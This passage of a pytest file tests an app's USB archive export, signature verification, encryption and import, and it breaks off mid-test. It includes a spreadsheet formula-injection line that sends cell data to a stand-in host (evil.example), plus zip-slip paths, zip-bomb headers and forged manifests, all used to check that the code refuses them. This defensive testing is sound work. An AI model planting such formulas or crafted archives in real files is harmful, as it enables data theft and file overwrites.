"""USB archives: export, verification, import, encryption, keys; faults, tampering and fuzz."""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import re
import shutil
import sqlite3
import stat
import struct
import tempfile
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from odf import teletype
from odf.opendocument import load as load_ods
from odf.table import Table, TableCell, TableRow
from odf.text import P

import obrero
from obrero.demo import build_demo
from obrero.errors import ObreroError
from obrero.exchange import archive, encryption, keys, restore, tables, verify
from obrero.exchange.archive import (
    ENCRYPTED_SUFFIX,
    ExportCancelled,
    ExportError,
    WrongPassphrase,
    archive_name,
    decrypt_archive,
    export_archive,
)
from obrero.exchange.restore import ImportRefused, import_archive
from obrero.exchange.verify import verify_archive
from obrero.logbook.chain import verify_chain
from obrero.members import add_member
from obrero.profile import default_profile, save_profile
from obrero.store.database import Database, open_database
from obrero.store.files import SCHEMA_HEAD

TODAY = date(2026, 11, 30)
NAME = "obrero-cooperativa-de-trabajo-la-tomatera-ltda-2026-11-30.zip"
PASSPHRASE = "contraseña de la asamblea"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Click")'


# --- Helpers -------------------------------------------------------------------------------


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def all_rows(path: Path) -> dict[str, list[tuple]]:
    """Every table of a database file, every row, in a stable order."""
    with closing(sqlite3.connect(f"{path.as_uri()}?mode=ro", uri=True)) as connection:
        names = [row[0] for row in connection.execute("SELECT name FROM sqlite_master")]
        tables_ = [
            name
            for name in names
            if connection.execute(
                "SELECT type FROM sqlite_master WHERE name = ?", (name,)
            ).fetchone()[0]
            == "table"
        ]
        return {
            name: sorted(connection.execute(f'SELECT * FROM "{name}"').fetchall(), key=repr)
            for name in tables_
        }


def members_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zipped:
        return {info.filename: zipped.read(info) for info in zipped.infolist()}


def write_zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, (2026, 11, 30, 12, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zipped.writestr(info, data)
    return path


def rewrite(source: Path, target: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    members = members_of(source)
    change(members)
    return write_zip(target, members)


def flip(data: bytes, at: int | None = None) -> bytes:
    at = len(data) // 2 if at is None else at
    return data[:at] + bytes([data[at] ^ 0x55]) + data[at + 1 :]


def resign(members: dict[str, bytes], key: Ed25519PrivateKey, **changes: object) -> None:
    """Change manifest fields and sign the result again, as a forger with ``key`` would."""
    manifest = json.loads(members["manifest.json"])
    manifest.update(changes)
    manifest["signer"] = keys.fingerprint(keys.public_key_bytes(key))
    members["manifest.json"] = json.dumps(manifest).encode()
    members["manifest.sig"] = key.sign(members["manifest.json"])
    members["public_key.pem"] = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def folder_listing(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def ods_rows(data: bytes, sheet: str) -> list[list[str]]:
    """The rows of one sheet as text, read with odfpy."""
    document = load_ods(io.BytesIO(data))
    table = next(
        t for t in document.spreadsheet.getElementsByType(Table) if t.getAttribute("name") == sheet
    )
    return [
        [
            "\n".join(teletype.extractText(p) for p in cell.getElementsByType(P))
            for cell in row.getElementsByType(TableCell)
        ]
        for row in table.getElementsByType(TableRow)
    ]


def csv_rows(data: bytes, delimiter: str) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV without a BOM"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


class FailingFile:
    """A file on a target that fills up (or fails) after ``limit`` bytes."""

    def __init__(self, path: Path, mode: str, limit: int, code: int = errno.ENOSPC) -> None:
        self._file = open(path, mode)  # noqa: SIM115 (closed by the exporter)
        self._left = limit
        self._code = code

    def write(self, data: bytes) -> int:
        if len(data) > self._left:
            self._file.write(bytes(data[: self._left]))
            self._left = 0
            raise OSError(self._code, os.strerror(self._code))
        self._left -= len(data)
        return self._file.write(data)

    def __getattr__(self, name: str):
        return getattr(self._file, name)


class LyingFile:
    """A USB stick that silently stores one byte wrong."""

    def __init__(self, path: Path, mode: str) -> None:
        self._file = open(path, mode)  # noqa: SIM115 (closed by the exporter)
        self._done = False

    def write(self, data: bytes) -> int:
        if not self._done and len(data) > 4096:
            self._done = True
            data = flip(bytes(data))
        return self._file.write(data)

    def __getattr__(self, name: str):
        return getattr(self._file, name)


# --- Fixtures ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small demo factory (5 members), built once for the module; never changed."""
    path = tmp_path_factory.mktemp("demo") / "demo.sqlite3"
    database = open_database(path)
    try:
        database.write(build_demo, members=5, today=TODAY)
    finally:
        database.close()
    return path


@pytest.fixture
def demo(demo_file: Path, tmp_path: Path) -> Iterator[Database]:
    """An open copy of the demo factory."""
    path = tmp_path / "data" / "obrero.sqlite3"
    path.parent.mkdir()
    shutil.copy(demo_file, path)
    database = open_database(path)
    yield database
    database.close()


@pytest.fixture
def stick(tmp_path: Path) -> Path:
    folder = tmp_path / "stick"
    folder.mkdir()
    return folder


@pytest.fixture
def exported(demo: Database, stick: Path) -> Path:
    """The demo factory exported with this installation's key."""
    return export_archive(demo, stick, today=TODAY)


@pytest.fixture
def current(demo_file: Path, tmp_path: Path) -> Path:
    """A closed database file an import may replace."""
    path = tmp_path / "current" / "obrero.sqlite3"
    path.parent.mkdir()
    shutil.copy(demo_file, path)
    return path


@pytest.fixture(scope="module")
def module_key() -> Ed25519PrivateKey:
    return Ed25519PrivateKey.generate()


@pytest.fixture(scope="module")
def fuzz_archive(demo_file: Path, tmp_path_factory: pytest.TempPathFactory, module_key) -> bytes:
    """A real small archive's bytes, signed by a key of another installation."""
    folder = tmp_path_factory.mktemp("fuzz")
    database = open_database(demo_file)
    try:
        path = export_archive(database, folder, key=module_key, today=TODAY)
    finally:
        database.close()
    return path.read_bytes()


# --- Names and keys ------------------------------------------------------------------------


def test_archive_names_are_safe_on_fat32():
    assert archive_name("Cooperativa de Trabajo La Tomatera Ltda.", TODAY) == NAME
    folded = archive_name('Fábrica Ñandú "Zanón" / Straße: <sí>?*|', TODAY)
    assert folded == "obrero-fabrica-nandu-zanon-strasse-si-2026-11-30.zip"
    assert archive_name("", TODAY) == archive_name("***", TODAY) == "obrero-2026-11-30.zip"
    long = archive_name("Cooperativa " * 30, TODAY)
    assert len(long.removesuffix(".zip") + ENCRYPTED_SUFFIX) <= 100
    assert long.endswith("-2026-11-30.zip") and "--" not in long
    for name in (NAME, folded, long):
        assert re.fullmatch(r"[a-z0-9-]+\.zip", name)
    assert ENCRYPTED_SUFFIX == ".zip.enc"


def test_installation_key_is_made_once_and_private(private_user_folders: Path):
    key = keys.installation_key()
    path = private_user_folders / "config" / "Obrero" / keys.KEY_FILENAME
    assert path.is_file()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    again = keys.installation_key()
    assert keys.public_key_bytes(again) == keys.public_key_bytes(key)
    assert len(keys.public_key_bytes(key)) == 32
    assert [p.name for p in path.parent.iterdir()] == [keys.KEY_FILENAME]


def test_installation_key_in_a_given_folder_and_a_damaged_one(tmp_path: Path):
    key = keys.installation_key(tmp_path / "elsewhere")
    assert keys.existing_installation_key(tmp_path / "elsewhere") is not None
    assert keys.public_key_bytes(keys.installation_key(tmp_path / "elsewhere")) == (
        keys.public_key_bytes(key)
    )
    assert keys.existing_installation_key(tmp_path / "none") is None
    (tmp_path / "bad").mkdir()
    (tmp_path / "bad" / keys.KEY_FILENAME).write_text("not a key")
    with pytest.raises(ObreroError, match="cannot be read"):
        keys.installation_key(tmp_path / "bad")
    assert (tmp_path / "bad" / keys.KEY_FILENAME).read_text() == "not a key"


def test_fingerprint_is_short_and_copyable():
    raw = bytes(range(32))
    shown = keys.fingerprint(raw)
    assert re.fullmatch(r"[0-9A-F]{4}( [0-9A-F]{4}){3}", shown)
    assert shown.replace(" ", "") == hashlib.sha256(raw).hexdigest()[:16].upper()
    assert keys.same_fingerprint(shown.lower().replace(" ", ""), shown)


# --- Export --------------------------------------------------------------------------------


def test_export_holds_every_file_and_a_signed_manifest(demo: Database, exported: Path):
    assert exported.name == NAME
    members = members_of(exported)
    manifest = json.loads(members["manifest.json"])
    assert manifest["format"] == "obrero-archive"
    assert manifest["obrero_version"] == obrero.__version__
    assert manifest["schema_revision"] == SCHEMA_HEAD
    assert manifest["factory"]["name"] == "Cooperativa de Trabajo La Tomatera Ltda."
    assert re.fullmatch(r"30-\d{8}-\d", manifest["factory"]["tax_id"])
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", manifest["created_at"])
    listed = {entry["name"]: entry for entry in manifest["files"]}
    assert set(members) == set(listed) | {"manifest.json", "manifest.sig", "public_key.pem"}
    for name, entry in listed.items():
        assert entry["size"] == len(members[name])
        assert entry["sha256"] == hashlib.sha256(members[name]).hexdigest()
    csv_tables = {name.removeprefix("csv/").removesuffix(".csv") for name in listed if "/" in name}
    assert "member" in csv_tables and "logbook_entry" in csv_tables and "pay_share" in csv_tables
    assert not csv_tables & {"alembic_version", "audit_context"}
    assert not any(name.startswith("logbook_search") for name in csv_tables)
    assert manifest["tables"]["member"] == 5
    public = serialization.load_pem_public_key(members["public_key.pem"])
    public.verify(members["manifest.sig"], members["manifest.json"])  # raises if wrong
    with tempfile.TemporaryDirectory() as folder:
        snapshot = Path(folder) / "snapshot.sqlite3"
        snapshot.write_bytes(members["database.sqlite3"])
        with closing(sqlite3.connect(snapshot)) as connection:
            assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
            assert connection.execute("PRAGMA journal_mode").fetchone() == ("delete",)


def test_export_only_reads_the_database(demo: Database, stick: Path):
    before = sha256(demo.path), folder_listing(demo.path.parent)
    export_archive(demo, stick, today=TODAY)
    assert (sha256(demo.path), folder_listing(demo.path.parent)) == before


def test_export_removes_work_folders_a_crash_left(demo: Database, stick: Path):
    stale, recent = (demo.path.parent / f".obrero-export-{n}" for n in ("stale", "recent"))
    for folder in (stale, recent):
        folder.mkdir()
        (folder / "database.sqlite3").write_bytes(b"snapshot")
    os.utime(stale, (0, 0))
    export_archive(demo, stick)
    assert not stale.exists() and recent.exists()


def test_a_damaged_installation_key(demo: Database, stick: Path, private_user_folders: Path):
    other = Ed25519PrivateKey.generate()
    path = export_archive(demo, stick, key=other)
    key_file = private_user_folders / "config" / "Obrero" / keys.KEY_FILENAME
    key_file.parent.mkdir(parents=True)
    key_file.write_text("damaged")
    with pytest.raises(ExportError, match="cannot be read"):
        export_archive(demo, stick)
    report = verify_archive(path)
    assert report.ok and not report.signed_here
    assert any("cannot be read" in warning for warning in report.warnings)


@pytest.mark.parametrize("passphrase", [None, "x"])
def test_progress_rises_to_the_end(demo: Database, stick: Path, passphrase: str | None):
    steps: list[tuple[int, int]] = []
    export_archive(
        demo, stick, passphrase, progress=lambda done, total: steps.append((done, total))
    )
    assert len(steps) > 10
    assert {total for _done, total in steps} == {archive.PROGRESS_STEPS}
    done = [d for d, _total in steps]
    assert done == sorted(done) and done[0] == 0 and done[-1] == archive.PROGRESS_STEPS


def test_round_trip_restores_every_table_row_by_row(demo: Database, exported: Path, tmp_path: Path):
    fresh = tmp_path / "new-pc" / "obrero.sqlite3"
    result = import_archive(fresh, exported)
    assert result.backup_path is None
    assert result.manifest["factory"]["name"] == "Cooperativa de Trabajo La Tomatera Ltda."
    assert all_rows(fresh) == all_rows(demo.path)
    reopened = open_database(fresh)
    try:
        assert reopened.integrity_ok()
        assert reopened.read(verify_chain).intact
    finally:
        reopened.close()


def test_csv_and_ods_give_the_same_rows_as_the_database(demo: Database, stick: Path, make_draft):
    demo.write(add_member, make_draft(full_name=FORMULA, national_id="99.999.999"))
    members = members_of(export_archive(demo, stick, today=TODAY))
    manifest = json.loads(members["manifest.json"])
    assert manifest["csv_delimiter"] == ";"  # the demo factory writes Spanish
    ods = members["records.ods"]
    for table in ("member", "logbook_entry", "pay_share", "audit_entry"):
        with closing(sqlite3.connect(demo.path)) as connection:
            cursor = connection.execute(f'SELECT * FROM "{table}" ORDER BY id')
            header = [column[0] for column in cursor.description]
            stored = cursor.fetchall()
        # Both give the stored rows: the CSV with text that looks like a formula neutralised.
        as_text = [["" if v is None else str(v) for v in row] for row in stored]
        neutralised = [
            [
                tables.neutralise(v) if isinstance(v, str) else t
                for v, t in zip(row, shown, strict=True)
            ]
            for row, shown in zip(stored, as_text, strict=True)
        ]
        assert ods_rows(ods, table) == [header, *as_text], table
        assert csv_rows(members[f"csv/{table}.csv"], ";") == [header, *neutralised], table
    # The formula arrives as text in both: neutralised in the CSV, a text cell in the ODS.
    csv_names = [row[1] for row in csv_rows(members["csv/member.csv"], ";")]
    assert "'" + FORMULA in csv_names and FORMULA not in csv_names
    assert FORMULA in [row[1] for row in ods_rows(ods, "member")]
    assert (
        'office:value-type="float"' in zipfile.ZipFile(io.BytesIO(ods)).read("content.xml").decode()
    )


def test_blobs_appear_as_hash_and_size(exported: Path, demo: Database):
    rows = csv_rows(members_of(exported)["csv/logbook_attachment.csv"], ";")
    data_column = rows[0].index("data")
    with closing(sqlite3.connect(demo.path)) as connection:
        blobs = [row[0] for row in connection.execute("SELECT data FROM logbook_attachment")]
    shown = [row[data_column] for row in rows[1:]]
    assert shown == [
        f"sha256:{hashlib.sha256(blob).hexdigest()} ({len(blob)} bytes)" for blob in blobs
    ]


def test_english_factory_uses_commas_and_cells_keep_their_whitespace(tmp_path: Path, make_draft):
    database = open_database(tmp_path / "en.sqlite3")
    try:
        profile = replace(default_profile("AR"), name="Acme Workers' Co-op", document_language="en")
        database.write(save_profile, profile)
        database.write(add_member, make_draft(full_name="-Ana +Pérez"))
        with database.transaction() as session:
            session.connection().exec_driver_sql(
                "INSERT INTO setting (key, value) VALUES ('note', ?)",
                ("  two  spaces\tand a tab\nand a line <&> \x01end ",),
            )
        path = export_archive(database, tmp_path, today=TODAY)
    finally:
        database.close()
    assert path.name == "obrero-acme-workers-co-op-2026-11-30.zip"
    members = members_of(path)
    rows = csv_rows(members["csv/member.csv"], ",")
    assert rows[1][1] == "'-Ana +Pérez"
    note = ods_rows(members["records.ods"], "setting")[1][1]
    assert note == "  two  spaces\tand a tab\nand a line <&> end "
    assert csv_rows(members["csv/setting.csv"], ",")[1][1].startswith("  two  spaces")


# --- Verify --------------------------------------------------------------------------------


def test_an_archive_from_here_verifies_and_is_trusted(exported: Path):
    report = verify_archive(exported)
    assert report.ok and report.problems == () and report.warnings == ()
    assert report.signed_here and report.trusted
    own = keys.fingerprint(keys.public_key_bytes(keys.installation_key()))
    assert report.fingerprint == own
    assert report.manifest["schema_revision"] == SCHEMA_HEAD


def test_an_archive_from_another_installation_is_a_warning(
    demo: Database, stick: Path, current: Path
):
    other = Ed25519PrivateKey.generate()
    path = export_archive(demo, stick, key=other, today=TODAY)
    theirs = keys.fingerprint(keys.public_key_bytes(other))
    report = verify_archive(path)
    assert report.ok and not report.signed_here and not report.trusted
    assert report.fingerprint == theirs
    assert report.warnings == (
        f"Signed by another installation (fingerprint {theirs}). Import it only if whoever "
        "sent it confirms this fingerprint.",
    )
    pinned = verify_archive(path, trusted_fingerprints=frozenset({theirs.replace(" ", "").lower()}))
    assert pinned.trusted and not pinned.signed_here and pinned.warnings == ()

    before, rows = sha256(current), all_rows(current)
    with pytest.raises(ImportRefused, match="another installation"):
        import_archive(current, path)
    assert sha256(current) == before
    result = import_archive(current, path, accept_foreign=True)
    assert result.backup_path is not None and all_rows(result.backup_path) == rows


def _tamper_database(members: dict[str, bytes]) -> None:
    members["database.sqlite3"] = flip(members["database.sqlite3"])


def _tamper_csv(members: dict[str, bytes]) -> None:
    members["csv/member.csv"] = members["csv/member.csv"].replace(b"a", b"o", 1)


def _tamper_ods(members: dict[str, bytes]) -> None:
    members["records.ods"] = flip(members["records.ods"])


def _tamper_manifest(members: dict[str, bytes]) -> None:
    members["manifest.json"] = members["manifest.json"].replace(b"Tomatera", b"Tomatena")


def _tamper_manifest_hash(members: dict[str, bytes]) -> None:
    """A forger changes the database and puts its new hash in the manifest."""
    old = hashlib.sha256(members["database.sqlite3"]).hexdigest().encode()
    _tamper_database(members)
    new = hashlib.sha256(members["database.sqlite3"]).hexdigest().encode()
    members["manifest.json"] = members["manifest.json"].replace(old, new)


def _tamper_signature(members: dict[str, bytes]) -> None:
    members["manifest.sig"] = flip(members["manifest.sig"])


def _swap_key(members: dict[str, bytes]) -> None:
    members["public_key.pem"] = (
        Ed25519PrivateKey.generate()
        .public_key()
        .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    )


def _drop_csv(members: dict[str, bytes]) -> None:
    del members["csv/pay_share.csv"]


def _add_file(members: dict[str, bytes]) -> None:
    members["csv/extra.csv"] = b"a;b\n"


def _drop_signature(members: dict[str, bytes]) -> None:
    del members["manifest.sig"]


def _break_manifest(members: dict[str, bytes]) -> None:
    members["manifest.json"] = b"{not json"


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (_tamper_database, ["database.sqlite3 was altered"]),
        (_tamper_csv, ["csv/member.csv was altered"]),
        (_tamper_ods, ["records.ods was altered"]),
        (_tamper_manifest, ["manifest.sig does not match manifest.json"]),
        (_tamper_manifest_hash, ["manifest.sig does not match manifest.json"]),
        (_tamper_signature, ["manifest.sig does not match manifest.json"]),
        (_swap_key, ["public_key.pem is not the key that signed", "manifest.sig does not match"]),
        (_drop_csv, ["csv/pay_share.csv is listed in the manifest but missing"]),
        (_add_file, ["csv/extra.csv is in the archive but not in the manifest"]),
        (_drop_signature, ["manifest.sig is missing"]),
        (_break_manifest, ["manifest.json cannot be read"]),
    ],
    ids=lambda value: getattr(value, "__name__", "")[1:] or None,
)
def test_tampering_is_detected_named_and_refused(
    exported: Path, tmp_path: Path, current: Path, change, expected: list[str]
):
    tampered = rewrite(exported, tmp_path / "tampered.zip", change)
    report = verify_archive(tampered)
    assert not report.ok
    for text in expected:
        assert any(text in problem for problem in report.problems), report.problems
    before = sha256(current), folder_listing(current.parent)
    with pytest.raises(ImportRefused) as refused:
        import_archive(current, tampered, accept_foreign=True)
    assert expected[0] in refused.value.message
    assert (sha256(current), folder_listing(current.parent)) == before


def test_a_newer_schema_or_format_is_refused(exported: Path, tmp_path: Path, current: Path):
    key = keys.installation_key()
    newer = rewrite(
        exported, tmp_path / "newer.zip", lambda m: resign(m, key, schema_revision="9999")
    )
    report = verify_archive(newer)
    assert report.signed_here  # the signature is fine: the schema is the problem
    assert report.problems == (
        "The archive was made by a newer version of Obrero (schema 9999). "
        "Install that version to open it.",
    )
    before = sha256(current)
    with pytest.raises(ImportRefused, match="schema 9999"):
        import_archive(current, newer)
    assert sha256(current) == before
    future = rewrite(exported, tmp_path / "future.zip", lambda m: resign(m, key, format_version=2))
    assert any("newer format" in problem for problem in verify_archive(future).problems)


def test_files_that_are_not_archives(tmp_path: Path, current: Path):
    cases = {
        "text.zip": b"minutes of the assembly\n",
        "empty.zip": b"",
        "header-only.zip": b"PK\x03\x04" + bytes(40),
        "fake-encrypted.zip.enc": encryption.MAGIC + bytes(10),
    }
    before = sha256(current)
    for name, data in cases.items():
        (tmp_path / name).write_bytes(data)
        report = verify_archive(tmp_path / name, passphrase="x")
        assert not report.ok and report.problems, name
        with pytest.raises(ImportRefused):
            import_archive(current, tmp_path / name)
    missing = verify_archive(tmp_path / "nowhere.zip")
    assert missing.problems == (f"{tmp_path / 'nowhere.zip'} does not exist or is not a file.",)
    assert sha256(current) == before


def test_a_truncated_archive_is_refused(exported: Path, tmp_path: Path):
    data = exported.read_bytes()
    for cut in (len(data) - 1, len(data) - 30, len(data) // 2, 100):
        (tmp_path / "cut.zip").write_bytes(data[:cut])
        report = verify_archive(tmp_path / "cut.zip")
        assert not report.ok
        assert "not a readable Obrero archive" in report.problems[0]


@pytest.mark.parametrize(
    "name", ["../evil.txt", "/etc/evil", "C:/evil.txt", "csv\\..\\evil", "a//b"]
)
def test_zip_slip_names_are_refused(exported: Path, tmp_path: Path, current: Path, name: str):
    def add(members: dict[str, bytes]) -> None:
        members[name] = b"owned"

    slipped = rewrite(exported, tmp_path / "slip.zip", add)
    report = verify_archive(slipped)
    assert not report.ok
    assert any("zip-slip" in problem for problem in report.problems), report.problems
    with pytest.raises(ImportRefused, match="zip-slip"):
        import_archive(current, slipped)
    assert not (tmp_path / "evil.txt").exists() and not (tmp_path.parent / "evil.txt").exists()


def test_folder_entries_pass_and_other_compressions_are_refused(exported: Path, tmp_path: Path):
    def add_folder(members: dict[str, bytes]) -> None:
        members["csv/"] = b""

    assert verify_archive(rewrite(exported, tmp_path / "folders.zip", add_folder)).ok
    with zipfile.ZipFile(tmp_path / "bz2.zip", "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, data in members_of(exported).items():
            bzip2 = name == "csv/member.csv"
            zipped.writestr(name, data, compress_type=zipfile.ZIP_BZIP2 if bzip2 else None)
    assert verify_archive(tmp_path / "bz2.zip").problems == (
        "csv/member.csv is compressed in a way Obrero never writes.",
    )


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("csv/member.csv", True),
        ("csv/", True),
        ("../x", False),
        ("csv/../../x", False),
        ("/abs", False),
        ("C:x", False),
        ("a\\b", False),
        ("a/./b", False),
        ("", False),
        ("x" * 300, False),
    ],
)
def test_safe_names(name: str, safe: bool):
    assert verify.is_safe_name(name) is safe


def _central_entry(data: bytes, name: str) -> int:
    """Where the central directory entry of ``name`` starts."""
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack("<H", data[at + 28 : at + 30])[0]
        if data[at + 46 : at + 46 + length] == name.encode():
            return at
        at = data.find(b"PK\x01\x02", at + 1)
    raise AssertionError(name)


def test_a_member_declaring_a_huge_size_is_refused(exported: Path, tmp_path: Path, current: Path):
    data = bytearray(exported.read_bytes())
    at = _central_entry(bytes(data), "csv/setting.csv")
    data[at + 24 : at + 28] = struct.pack("<I", 0xF000_0000)  # "expands to 3.75 GiB"
    (tmp_path / "bomb.zip").write_bytes(bytes(data))
    report = verify_archive(tmp_path / "bomb.zip")
    assert any("zip bomb" in problem for problem in report.problems), report.problems
    with pytest.raises(ImportRefused, match="zip bomb"):
        import_archive(current, tmp_path / "bomb.zip")


def test_a_member_that_expands_too_far_is_refused(exported: Path, tmp_path: Path):
    def inflate(members: dict[str, bytes]) -> None:
        members["csv/member.csv"] = bytes(20 * 2**20)

    bomb = rewrite(exported, tmp_path / "bomb.zip", inflate)
    report = verify_archive(bomb)
    assert report.problems == (
        "csv/member.csv is compressed more than 200 to 1, far more than records compress. "
        "The archive was not opened (it may be a zip bomb).",
    )


def test_an_archive_of_too_many_files_is_refused(exported: Path, tmp_path: Path):
    def crowd(members: dict[str, bytes]) -> None:
        for number in range(verify.MAX_MEMBERS):
            members[f"csv/x{number}.csv"] = b""

    report = verify_archive(rewrite(exported, tmp_path / "crowd.zip", crowd))
    assert len(report.problems) == 1 and "at most 2000" in report.problems[0]


def test_a_member_declaring_less_than_it_holds_is_caught(exported: Path, tmp_path: Path):
    data = bytearray(exported.read_bytes())
    at = _central_entry(bytes(data), "database.sqlite3")
    data[at + 24 : at + 28] = struct.pack("<I", 1000)
    (tmp_path / "short.zip").write_bytes(bytes(data))
    assert "database.sqlite3 was altered" in verify_archive(tmp_path / "short.zip").problems[0]


# --- Encryption ----------------------------------------------------------------------------


def test_encrypted_round_trip_and_wrong_passphrase(demo: Database, stick: Path, current: Path):
    path = export_archive(demo, stick, passphrase=PASSPHRASE, today=TODAY)
    assert path.name == NAME.removesuffix(".zip") + ENCRYPTED_SUFFIX
    data = path.read_bytes()
    assert data.startswith(b"OBRERO-ENC1\n")
    assert struct.unpack(">III", data[12:24]) == (2**15, 8, 1)
    assert b"Tomatera" not in data and b"manifest" not in data

    locked = verify_archive(path)
    assert locked.encrypted and locked.problems == (
        f"{path.name} is encrypted: enter its passphrase to open it.",
    )
    wrong = verify_archive(path, passphrase="contrasena de la asamblea")
    assert wrong.problems[0].startswith("The passphrase is wrong")
    report = verify_archive(path, passphrase=PASSPHRASE)
    assert report.ok and report.signed_here and report.encrypted
    # The passphrase is compared in one Unicode form, however the keyboard typed the ñ.
    assert verify_archive(path, passphrase=unicodedata.normalize("NFD", PASSPHRASE)).ok

    plain = decrypt_archive(data, PASSPHRASE)
    assert zipfile.ZipFile(io.BytesIO(plain)).testzip() is None
    with pytest.raises(WrongPassphrase, match="passphrase is wrong"):
        decrypt_archive(data, "guess")
    with pytest.raises(WrongPassphrase):
        decrypt_archive(flip(data, 100), PASSPHRASE)

    before = sha256(current)
    with pytest.raises(ImportRefused, match="passphrase is wrong"):
        import_archive(current, path, passphrase="guess")
    with pytest.raises(ImportRefused, match="encrypted"):
        import_archive(current, path)
    assert sha256(current) == before
    import_archive(current, path, passphrase=PASSPHRASE)
    assert all_rows(current) == all_rows(demo.path)


def test_the_encryption_format_is_the_documented_one(demo: Database, stick: Path):
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
    from cryptography.hazmat.primitives.kdf.scrypt import Scrypt

    data = export_archive(demo, stick, passphrase="x", today=TODAY).read_bytes()
    salt, nonce = data[24:40], data[40:52]
    key = Scrypt(salt=salt, length=32, n=2**15, r=8, p=1).derive(b"x")
    plain = AESGCM(key).decrypt(nonce, data[52:], data[:52])
    assert "manifest.json" in zipfile.ZipFile(io.BytesIO(plain)).namelist()


def test_an_empty_passphrase_is_refused(demo: Database, stick: Path):
    with pytest.raises(ExportError, match="passphrase is empty"):
        export_archive(demo, stick, passphrase="")
    assert folder_listing(stick) == []


# --- Safe writing --------------------------------------------------------------------------


@pytest.mark.parametrize("passphrase", [None, PASSPHRASE])
def test_a_full_stick_at_any_byte_leaves_the_earlier_archive(
    demo: Database, stick: Path, passphrase: str | None
):
    earlier = export_archive(demo, stick, passphrase=passphrase, today=TODAY)
    earlier_bytes = earlier.read_bytes()
    database_before = sha256(demo.path)
    size = len(earlier_bytes)
    offsets = [0, 1, 30, *range(size // 10, size, size // 10)][: 12 if passphrase is None else 5]
    for limit in offsets:
        with pytest.raises(ExportError) as failed:
            export_archive(
                demo,
                stick,
                passphrase=passphrase,
                opener=lambda path, mode, limit=limit: FailingFile(path, mode, limit),
                today=TODAY,
            )
        assert failed.value.message.startswith(f"{stick} is full"), limit
        assert folder_listing(stick) == [earlier.name], limit
        assert earlier.read_bytes() == earlier_bytes
    assert sha256(demo.path) == database_before
    assert folder_listing(demo.path.parent) == [demo.path.name, *_side_files(demo.path)]


def _side_files(path: Path) -> list[str]:
    return sorted(p.name for p in path.parent.iterdir() if p.name != path.name)


@pytest.mark.parametrize(
    ("code", "message"),
    [
        (errno.EIO, "is not there any more (was the USB stick removed?)"),
        (errno.EROFS, "cannot be written (it is read-only"),
        (errno.EACCES, "cannot be written (it is read-only"),
        (errno.EFBIG, "too large for the file system"),
    ],
)
def test_write_errors_get_a_clear_message(demo: Database, stick: Path, code: int, message: str):
    with pytest.raises(ExportError, match=re.escape(message)):
        export_archive(demo, stick, opener=lambda path, mode: FailingFile(path, mode, 5000, code))
    assert folder_listing(stick) == []


def test_the_target_removed_half_way(demo: Database, stick: Path):
    def pull_out(done: int, _total: int) -> None:
        if done > 500 and stick.exists():
            shutil.rmtree(stick)

    with pytest.raises(ExportError, match=r"is not there any more \(was the USB stick removed\?\)"):
        export_archive(demo, stick, progress=pull_out, today=TODAY)
    assert not stick.exists()


def test_a_missing_target(demo: Database, tmp_path: Path):
    with pytest.raises(ExportError, match="is not there any more"):
        export_archive(demo, tmp_path / "unplugged")


def test_a_stick_that_stores_a_byte_wrong_is_caught(demo: Database, stick: Path):
    earlier = export_archive(demo, stick, today=TODAY)
    earlier_bytes = earlier.read_bytes()
    with pytest.raises(ExportError, match="did not read back correctly"):
        export_archive(demo, stick, opener=LyingFile, today=TODAY)
    assert folder_listing(stick) == [earlier.name]
    assert earlier.read_bytes() == earlier_bytes


@pytest.mark.parametrize("after", [0, 100, 400, 800, 990])
def test_cancel_leaves_nothing(demo: Database, stick: Path, after: int):
    earlier = export_archive(demo, stick, today=TODAY).read_bytes()
    seen: list[int] = []
    with pytest.raises(ExportCancelled, match="cancelled"):
        export_archive(
            demo,
            stick,
            progress=lambda done, _total: seen.append(done),
            cancelled=lambda: bool(seen) and seen[-1] >= after,
            today=TODAY,
        )
    assert folder_listing(stick) == [NAME]
    assert (stick / NAME).read_bytes() == earlier


# --- Import --------------------------------------------------------------------------------


def test_import_backs_up_the_current_database_first(exported: Path, current: Path, tmp_path: Path):
    before = sha256(current)
    copies: list[Path] = []  # the callable gets the current database, before it changes

    def backup(path: Path) -> Path:
        copy = tmp_path / "backups" / "copy.sqlite3"
        copy.parent.mkdir()
        shutil.copy(path, copy)
        copies.append(path)
        return copy

    result = import_archive(current, exported, backup=backup)
    assert copies == [current]
    assert result.backup_path == tmp_path / "backups" / "copy.sqlite3"
    assert sha256(result.backup_path) == before
    assert folder_listing(current.parent) == ["obrero.sqlite3"]


def test_import_refuses_when_the_backup_fails(exported: Path, current: Path):
    def broken(_path: Path) -> Path:
        raise OSError(errno.ENOSPC, "No space left on device")

    before = sha256(current)
    with pytest.raises(ImportRefused, match="could not be backed up"):
